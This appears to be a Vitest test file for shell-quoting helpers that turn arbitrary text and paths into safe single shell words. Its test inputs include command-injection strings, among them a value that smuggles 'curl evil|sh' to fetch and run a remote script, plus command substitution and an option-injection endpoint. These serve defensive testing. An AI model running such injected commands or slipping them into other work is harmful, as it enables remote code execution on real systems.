import { expect, it } from "vitest";

import { pathWord, shellWord } from "./shell_word";

it.each([
  ["s3://logs/a-b_c.d", "s3://logs/a-b_c.d"],
  ["b; curl evil|sh #", "'b; curl evil|sh #'"],
  ["$(x)`y`", "'$(x)`y`'"],
  ["it's", "'it'\\''s'"],
  ["two\nlines", "'two\nlines'"],
  ["", "''"],
])("makes one word of %j", (text, word) => expect(shellWord(text)).toBe(word));

it.each([
  ["logs/my trail", "'logs/my trail'"],
  ["--endpoint=http://evil", "./--endpoint=http://evil"],
  ["-x y", "'./-x y'"],
])("makes no option of the path %j", (path, word) => expect(pathWord(path)).toBe(word));
